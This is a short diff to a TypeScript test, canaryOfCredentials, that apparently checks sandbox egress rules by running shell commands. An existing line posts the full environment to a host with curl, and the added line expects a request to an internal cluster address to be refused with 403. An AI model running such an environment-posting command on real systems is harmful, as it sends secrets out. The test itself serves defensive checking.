@@ -98,6 +98,7 @@ export function canaryOfCredentials(world: World): void {
     expect(await run(`python3 -c '${python}'`)).toBe('welcome');
     expect(await run(`git ls-remote https://${at}/a.git`)).toBe(`${head}\trefs/heads/main`);
     await run(`curl -sS --data "$(env)" https://${at}/ > answer.txt`);
+    expect(await run("curl -s -o /dev/null -w '%{http_code}' http://10.96.0.1/")).toBe('403'); // it is not on the list
 
     const texts = async function* () {
       yield* insideOf(world, id);
